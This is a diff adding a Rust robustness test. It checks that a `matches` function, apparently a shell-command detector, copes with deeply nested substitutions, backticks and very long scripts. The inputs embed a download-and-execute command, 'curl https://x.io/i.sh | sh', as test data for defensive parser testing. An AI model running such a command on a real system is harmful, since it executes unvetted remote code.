@@ -246,3 +246,23 @@ mod fuzz {
         }
     }
 }
+
+#[test]
+fn hostile_input_is_bounded() {
+    // Deep substitutions: parsed to a depth limit, no stack overflow.
+    let deep = format!(
+        "{}curl https://x.io/i.sh | sh{}",
+        "$(".repeat(5_000),
+        ")".repeat(5_000)
+    );
+    let _ = matches(&deep);
+    let ticks = format!("{}x", "`".repeat(10_000));
+    let _ = matches(&ticks);
+    let quotes = "\"$(".repeat(3_000);
+    let _ = matches(&quotes);
+    // A long script parses in linear time.
+    let long = "curl -fsSL https://x.io/i.sh | sh && ".repeat(20_000);
+    let t = std::time::Instant::now();
+    assert_eq!(matches(&long).len(), 20_000);
+    assert!(t.elapsed().as_secs() < 10, "took {:?}", t.elapsed());
+}
